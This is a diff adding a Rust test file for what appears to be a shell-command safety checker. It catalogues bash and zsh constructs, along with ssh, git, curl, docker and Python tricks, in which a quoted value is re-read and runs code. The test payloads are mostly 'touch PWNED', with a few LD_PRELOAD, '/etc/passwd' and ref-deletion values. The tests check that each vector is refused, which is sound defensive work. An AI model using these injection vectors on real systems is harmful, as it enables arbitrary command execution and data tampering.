@@ -1,0 +1,306 @@
+//! Where the shell, or a program, reads a value another time: as a list, as a key, as a number, as a name, behind the end of a
+//! command or of a line.
+//!
+//! Each attack acts when its value stands in the script as one quoted word, with real shells and programs, and is refused.
+
+#[path = "common/acting.rs"]
+mod acting;
+#[path = "common/template.rs"]
+mod template;
+
+use acting::{all_act_and_are_refused, is_refused, judged};
+use cycod_shell::Shell;
+
+const SHELL: &str = "touch PWNED";
+const LIST: &str = "($(touch PWNED))";
+const SUBSCRIPT: &str = "$(touch PWNED)";
+const NUMBER: &str = "a[$(touch PWNED)]";
+
+/// A text in parentheses is a list where an array gets it from `declare` or one of its relatives.
+const LISTS: &[(&str, &str)] = &[
+    (r#"declare -a b="{X}""#, LIST),
+    (r#"declare -a "b={X}""#, LIST),
+    (r#"declare -ax b="{X}""#, LIST),
+    (r#"declare -A b="{X}""#, "([a]=$(touch PWNED))"),
+    (r#"x="{X}"; declare -a b="$x""#, LIST),
+    (r#"x="{X}"; declare -a b="($x)""#, SUBSCRIPT),
+    (r#"x="{X}"; declare -a "b=($x)""#, SUBSCRIPT),
+    (r#"x="{X}"; declare -a 'b=($(eval "$x"))'"#, SHELL),
+    (r#"x="{X}"; declare -a b; declare b="$x""#, LIST),
+    (r#"x="{X}"; declare -A b; declare b="$x""#, "([a]=$(touch PWNED))"),
+    (r#"x="{X}"; b=(1); declare b="$x""#, LIST),
+    (r#"x="{X}"; b[2]=1; declare b="$x""#, LIST),
+    (r#"f() { local -a b="$1"; }; f "{X}""#, LIST),
+    (r#"f() { local b=(1); local b="$1"; }; f "{X}""#, LIST),
+    (r#"f() { readonly -a b="$1"; }; f "{X}""#, LIST),
+    (r#"f() { local -a b="${1#a}"; }; f "{X}""#, "a($(touch PWNED))"),
+    (r#"f() { local -a b="${1//a/}"; }; f "{X}""#, "a($(touch PWNED))"),
+    (r#"readonly -a b="{X}""#, LIST),
+    (r#"export -a b="{X}""#, LIST),
+    (r#"typeset -a b="{X}""#, LIST),
+    (r#"x="{X}"; declare -a b="$(echo "$x")""#, LIST),
+];
+
+/// The keys of an array are texts.
+const KEYS: &[(&str, &str)] = &[
+    (r#"declare -A a; a["{X}"]=1; for k in "${!a[@]}"; do eval "$k"; done"#, SHELL),
+    (r#"x="{X}"; declare -A a; a[$x]=1; "${!a[@]}" PWNED"#, "touch"),
+    (r#"x="{X}"; declare -A a; a[$x]+=1; eval "${!a[*]}""#, SHELL),
+    (r#"x="{X}"; declare -A a=([$x]=1); eval "${!a[@]}""#, SHELL),
+    (r#"declare -A a=("{X}" 1); "${!a[@]}" PWNED"#, "touch"),
+    (r#"x="{X}"; declare -A a; ((a[$x]++)); for k in "${!a[@]}"; do $k; done"#, SHELL),
+    (r#"x="{X}"; declare -A a; let "a[$x]++"; for k in "${!a[@]}"; do $k; done"#, SHELL),
+    (r#"x="{X}"; declare -A a; : "${a[$x]:=1}"; for k in "${!a[@]}"; do $k; done"#, SHELL),
+    (r#"x="{X}"; declare -A a; a[$x]=1; set -- "${a[@]@k}"; eval "$1""#, SHELL),
+    (r#"x="{X}"; declare -A a; a[$x]=1; for k in "${!a[@]}"; do unset "a[$k]"; done"#, SUBSCRIPT),
+    (r#"x="{X}"; declare -A a; a[$x]=1; for k in "${!a[@]}"; do sort /dev/null "$k"; done"#, "-oPWNED"),
+    (r#"x="{X}"; declare -A a; a[$x]=1; k=("${!a[@]}"); bash -c "${k[0]}""#, SHELL),
+];
+
+/// A subscript in a word of a builtin.
+const SUBSCRIPTS: &[(&str, &str)] = &[
+    (r#"x="{X}"; declare "a[$x]=3""#, SUBSCRIPT),
+    (r#"x="{X}"; declare -A a; declare "a[$x]=3""#, SUBSCRIPT),
+    (r#"x="{X}"; f() { local "a[$x]=1"; }; f"#, SUBSCRIPT),
+    (r#"x="{X}"; declare "a[x]=3""#, NUMBER),
+];
+
+/// What is calculated, and by which name.
+const CALCULATED: &[(&str, &str)] = &[
+    (r#"RANDOM="{X}""#, NUMBER),
+    (r#"export RANDOM="{X}""#, NUMBER),
+    (r#"x="{X}"; RANDOM=x"#, NUMBER),
+    (r#"for RANDOM in "{X}"; do :; done"#, NUMBER),
+    (r#"read -r RANDOM <<< "{X}""#, NUMBER),
+    (r#"OPTIND="{X}""#, NUMBER),
+    (r#"SRANDOM="{X}""#, NUMBER),
+    (r#"HISTCMD="{X}""#, NUMBER),
+    (r#"declare -ai a; a=("{X}")"#, NUMBER),
+    (r#"declare -ai a; mapfile -t a <<< "{X}"; : "$((a))""#, NUMBER),
+    (r#"x="{X}"; y=x; echo $((y))"#, NUMBER),
+    (r#"x="{X}"; y=x; z=y; echo $((z))"#, NUMBER),
+    (r#"x="{X}"; y=x; echo $(($y))"#, NUMBER),
+    (r#"x="{X}"; y=x; [[ $y -gt 0 ]]"#, NUMBER),
+    (r#"x="{X}"; a=(1 2 3); echo "${a[@]:x:1}""#, NUMBER),
+    (r#"x="{X}"; a=(1 2 3); echo "${a[@]:0:$x}""#, NUMBER),
+    (r#"x="{X}"; set -- 1 2; echo "${@:$x}""#, NUMBER),
+];
+
+/// A name that stands for a variable, and for more than one.
+const NAMES: &[(&str, &str)] = &[
+    (r#"set -- "{X}"; n=@; eval "${!n}""#, SHELL),
+    (r#"a=("{X}"); n='a[0]'; eval "${!n}""#, SHELL),
+    (r#"a=("{X}"); n='a[@]'; "${!n}" PWNED"#, "touch"),
+    (r#"declare -n r; r=v; r="{X}"; eval "$v""#, SHELL),
+    (r#"v="{X}"; n=v; : "${!n@P}""#, SUBSCRIPT),
+    (r#"x="{X}"; n=none; eval "${!n:-$x}""#, SHELL),
+    (r#"x="{X}"; eval "${none[@]:-$x}""#, SHELL),
+    (r#"x="{X}"; set --; eval "${@:-$x}""#, SHELL),
+    (r#"x="{X}"; a=(b); eval "${a[@]/b/$x}""#, SHELL),
+    (r#"(x="{X}"; : "${none:?$x}") 2>&1 | sed 's/.*: //' | bash"#, SHELL),
+];
+
+/// The script says what the name of a command means.
+const RENAMED: &[(&str, &str)] = &[
+    ("shopt -s expand_aliases\nalias echo=eval\necho \"{X}\"", SHELL),
+    ("shopt -s expand_aliases\nalias ls='sh -c'\nls \"{X}\"", SHELL),
+    (r#"BASH_CMDS[ls]=/bin/sh; ls -c "{X}""#, SHELL),
+    ("shopt -s expand_aliases\nBASH_ALIASES[ls]=eval\nls \"{X}\"", SHELL),
+    (r#"hash -p /bin/sh ls; ls -c "{X}""#, SHELL),
+];
+
+/// Builtins that run what they are given.
+const CALLED: &[(&str, &str)] = &[
+    (r#"mapfile -C eval -c 1 a <<< "{X}""#, "; touch PWNED"),
+    (r#"mapfile -Ceval -c1 a <<< "{X}""#, "; touch PWNED"),
+    (r#"readarray -t -C "sh -c 'eval \$1'" -c 1 a <<< "{X}""#, SHELL),
+    (r#"c=eval; mapfile -C "$c" -c 1 a <<< "{X}""#, "; touch PWNED"),
+    (r#"jobs -x "{X}" PWNED"#, "touch"),
+    (r#"jobs -x sh -c "{X}""#, SHELL),
+];
+
+const ZSH: &[(&str, &str)] =
+    &[(r#"read -t "{X}" a"#, "path[$(touch PWNED)]"), (r#"typeset -T A b; A="{X}"; $b PWNED"#, "touch")];
+
+/// What a program does with one of its words.
+const PROGRAMS: &[(&str, &str)] = &[
+    (r#"ssh -o BatchMode=yes -J "{X}" localhost"#, "$(touch${IFS}PWNED)h"),
+    (r#"scp -o BatchMode=yes -J "{X}" localhost:a b"#, "$(touch${IFS}PWNED)h"),
+    (r#"parallel --results "{X}" echo ::: a"#, r#"r{= system("touch PWNED") =}"#),
+    (
+        r#"tmux -L cycod-test new-session -d; tmux -L cycod-test has-session -t "{X}" run-shell "touch '$PWD/PWNED'"; tmux -L cycod-test kill-server"#,
+        "0;",
+    ),
+    (r#"git init -q .; git -c protocol.ext.allow=always remote show "{X}""#, "ext::touch PWNED"),
+    (r#"printf 'c__builtin__\neval\n(S"open(%s)"\ntR.' "'PWNED','w'" > p; python3 -m pickle "{X}""#, "p"),
+    ("echo \"open('PWNED', 'w')\" > g.py; python3 -m inspect \"{X}\"", "g"),
+];
+
+#[track_caller]
+fn check(attacks: &[(&str, &str)]) {
+    let attacks: Vec<_> = attacks.iter().map(|(script, value)| (Shell::Bash, *script, *value)).collect();
+    all_act_and_are_refused(&attacks);
+}
+
+#[test]
+fn a_text_becomes_a_list() {
+    check(LISTS);
+}
+
+#[test]
+fn a_key_is_a_value() {
+    check(KEYS);
+}
+
+#[test]
+fn a_subscript_is_read_twice() {
+    check(SUBSCRIPTS);
+}
+
+#[test]
+fn a_name_that_is_calculated_is_followed() {
+    check(CALCULATED);
+}
+
+#[test]
+fn a_name_may_stand_for_more_than_a_variable() {
+    check(NAMES);
+}
+
+#[test]
+fn a_command_of_another_meaning_is_not_known() {
+    check(RENAMED);
+}
+
+#[test]
+fn a_builtin_runs_what_it_is_given() {
+    check(CALLED);
+}
+
+#[test]
+fn zsh_reads_again() {
+    let attacks: Vec<_> = ZSH.iter().map(|(script, value)| (Shell::Zsh, *script, *value)).collect();
+    all_act_and_are_refused(&attacks);
+}
+
+#[test]
+fn a_program_reads_again() {
+    check(PROGRAMS);
+}
+
+/// Every variable that the shells themselves know gets a value that would act in arithmetic.
+#[test]
+fn every_number_of_a_shell_is_known() {
+    let bash = "compgen -v";
+    let zsh = "zmodload zsh/datetime zsh/system; typeset +m '*'";
+    for (shell, code, value) in [(Shell::Bash, bash, NUMBER), (Shell::Zsh, zsh, "path[$(touch PWNED)]")] {
+        let names = acting::printed(shell, code);
+        let names = names.lines().filter_map(|line| line.split_whitespace().last());
+        let names: Vec<&str> =
+            names.filter(|name| name.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'_')).collect();
+        assert!(names.len() > 40, "{names:?}");
+        let mut acted = 0;
+        for name in names {
+            let script = format!("{name}=\"{{X}}\"");
+            let acts = acting::acts(shell, &script, value);
+            acted += usize::from(acts);
+            assert!(!acts || is_refused(shell, &script, value), "{shell:?}: {script}");
+        }
+        assert!(acted > 2, "{shell:?}: only {acted} of them calculate");
+    }
+}
+
+/// The words behind `script.py`, or behind the `--` of `cargo run`, are another program's, which reads options.
+#[test]
+fn a_program_behind_another_reads_options() {
+    check(&[(r#"perl /usr/bin/pod2html "{X}" < /dev/null"#, "--outfile=PWNED")]);
+    for script in [
+        r#"bash a.sh "{X}""#,
+        r#"python3 a.py "{X}""#,
+        r#"python3 a.py b --all "{X}""#,
+        r#"node a.js "{X}""#,
+        r#"ruby a.rb "{X}""#,
+        r#"java -jar a.jar "{X}""#,
+        r#"deno run a.ts "{X}""#,
+        r#"go run . "{X}""#,
+        r#"cargo run -- "{X}""#,
+        r#"cargo test -- "{X}""#,
+        r#"cargo fmt -- "{X}""#,
+        r#"dotnet run -- "{X}""#,
+        r#"tox -- "{X}""#,
+        r#"bash -s -- "{X}" < a.sh"#,
+        r#"f() { python3 a.py "$@"; }; f "{X}""#,
+    ] {
+        assert!(is_refused(Shell::Bash, script, "-x"), "{script}");
+        assert!(!is_refused(Shell::Bash, script, "x"), "{script}: {:?}", judged(Shell::Bash, script).command);
+    }
+    for script in [
+        r#"python3 a.py -- "{X}""#,
+        r#"python3 a.py --name="{X}""#,
+        r#"cargo run -- -- "{X}""#,
+        r#"bash -c 'echo "$1"' _ "{X}""#,
+        r#"python3 -c 'import sys; print(sys.argv[1])' "{X}""#,
+        r#"node -e 'console.log(process.argv[1])' -- "{X}""#,
+        r#"perl -e 'print @ARGV' -- "{X}""#,
+        "python3 - \"{X}\" <<'E'\nimport sys; print(sys.argv[1])\nE\n",
+    ] {
+        assert!(!is_refused(Shell::Bash, script, "-x"), "{script}: {:?}", judged(Shell::Bash, script).command);
+    }
+}
+
+/// What looks like one of these and is none.
+#[test]
+fn what_is_read_once_is_data() {
+    let scripts = [
+        r#"f() { local a="$1"; echo "$a"; }; f "{X}""#,
+        r#"declare -a a=("{X}"); echo "${a[@]}""#,
+        r#"declare -A a; a["{X}"]=1; for k in "${!a[@]}"; do echo "$k"; done"#,
+        r#"a=(1 2); for i in "${!a[@]}"; do eval "echo $i"; done; echo "{X}""#,
+        r#"x="{X}"; n=x; echo "${!n}""#,
+        r#"mapfile -t a <<< "{X}"; echo "${a[@]}""#,
+        r#"alias ll='ls -l'; echo "{X}""#,
+        r#"hash -r; echo "{X}""#,
+        r#"jobs -p; echo "{X}""#,
+        r#"echo "${none:?{X}}""#,
+    ];
+    for script in scripts {
+        let refused = is_refused(Shell::Bash, script, "a (b) $(c) [d]");
+        assert!(!refused, "{script}: {:?}", judged(Shell::Bash, script).command);
+    }
+    assert!(is_refused(Shell::Bash, r#"b=(1); declare b="{X}""#, "(a)"));
+    assert!(!is_refused(Shell::Bash, r#"b=(1); declare b="{X}""#, "a (b)"));
+}
+
+/// Variables of a container are variables, and a line of a header ends where a line ends.
+#[test]
+fn a_program_elsewhere_reads_the_same() {
+    let lib = "/x.so";
+    for (script, value) in [
+        (r#"docker run -e BASH_ENV="{X}" image bash -c ls"#, SUBSCRIPT),
+        (r#"docker run -e "{X}" image bash -c ls"#, "BASH_ENV=$(touch PWNED)"),
+        (r#"docker exec --env="{X}" container ls"#, "LD_PRELOAD=/x.so"),
+        (r#"docker exec -e LD_PRELOAD="{X}" container ls"#, lib),
+        (r#"podman run --env NODE_OPTIONS="{X}" image"#, "--require=/x.js"),
+        (r#"docker compose run -e "{X}" service"#, "LD_PRELOAD=/x.so"),
+        (r#"kubectl run a --image=b --env="{X}""#, "LD_PRELOAD=/x.so"),
+        (r#"docker build --build-arg "{X}" ."#, "BUILDKIT_SYNTAX=evil/frontend"),
+        (r#"curl -H "A: {X}" https://example.com"#, "1\r\nAuthorization: b"),
+        (r#"curl -A "{X}" https://example.com"#, "1\nB: 2"),
+        (r#"curl -X "{X}" https://example.com"#, "GET / HTTP/1.0\r\nB: 2"),
+        (r#"curl --expand-data "{X}" https://example.com"#, "@/etc/passwd"),
+        (r#"curl -Q "{X}" ftp://example.com"#, "DELE a"),
+        (r#"wget --referer="{X}" https://example.com"#, "1\r\nB: 2"),
+        (r#"git update-ref --stdin <<< "{X}""#, "delete refs/heads/main"),
+        (r#"git fast-import <<< "{X}""#, "reset refs/heads/main"),
+    ] {
+        assert!(is_refused(Shell::Bash, script, value), "{script}");
+    }
+    for (script, value) in [
+        (r#"docker run -e NAME="{X}" image bash -c ls"#, "a b"),
+        (r#"docker build --build-arg VERSION="{X}" ."#, "1"),
+        (r#"curl -H "A: {X}" https://example.com"#, "1 2"),
+        (r#"git update-ref refs/heads/a "{X}""#, "HEAD"),
+    ] {
+        assert!(!is_refused(Shell::Bash, script, value), "{script}: {:?}", judged(Shell::Bash, script).command);
+    }
+}
